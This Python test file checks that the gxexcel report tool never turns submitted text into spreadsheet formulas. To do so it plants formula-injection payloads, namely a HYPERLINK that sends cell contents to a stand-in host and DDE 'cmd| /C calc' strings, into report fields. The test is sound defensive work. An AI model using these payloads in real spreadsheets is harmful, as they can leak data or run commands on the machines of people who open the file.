"""Text copied from submissions can never become a formula in any output (issue 8, safety).

A hostile (or careless) clerk types ``=HYPERLINK(...)``, ``+cmd|...``, ``-1+1`` or
``@SUM(...)`` into the unit name, the narrative or a count cell. Every workbook
gxexcel writes from that submission (the filled template, the 校验结果 sheet
of ``validate --write-back``, the consolidation of ``merge``) must hold it as
text: no cell of any output may be a formula containing submitted text.
"""

from __future__ import annotations

import random

import openpyxl
from corpus import run_cli

from gxexcel.sample import sample_report
from gxexcel.writer import write_workbook

PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def hostile_report():
    report = sample_report(random.Random(5), unit_name="石门镇人民政府", parent="云溪县")
    report.contact = PAYLOADS[1]
    report.phone = PAYLOADS[2]
    report.narrative["s1.request"] = PAYLOADS[0] + report.narrative["s1.request"]
    report.narrative["s5"] = PAYLOADS[3]
    report.cells["t3.new.natural"] = PAYLOADS[2]  # text in a count cell, quoted back in findings
    return report


def formula_cells_with_payload(path) -> list[str]:
    bad = []
    wb = openpyxl.load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and any(p[1:12] in str(cell.value) for p in PAYLOADS):
                    bad.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
    return bad


def test_submitted_text_stays_text_in_every_output(tmp_path):
    src = tmp_path / "报送"
    workbook = write_workbook(hostile_report(), src / "石门镇.xlsx")
    assert formula_cells_with_payload(workbook) == []
    book = openpyxl.load_workbook(workbook)
    cover = book["封面"]
    assert PAYLOADS[1] in [c.value for row in cover.iter_rows() for c in row]

    proc = run_cli("validate", "--write-back", "--", str(workbook))
    assert proc.returncode == 1, proc.stderr  # the text in a count cell is an error
    checked = sorted(src.glob("*校验*.xlsx"))
    assert checked, list(src.iterdir())
    assert formula_cells_with_payload(checked[0]) == []

    out = tmp_path / "汇总.xlsx"
    proc = run_cli("merge", str(workbook), "-o", str(out))
    assert "Traceback" not in proc.stderr
    assert formula_cells_with_payload(out) == []
    texts = [c.value for ws in openpyxl.load_workbook(out) for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(PAYLOADS[2] in t for t in texts) or any(PAYLOADS[0][:10] in t for t in texts)
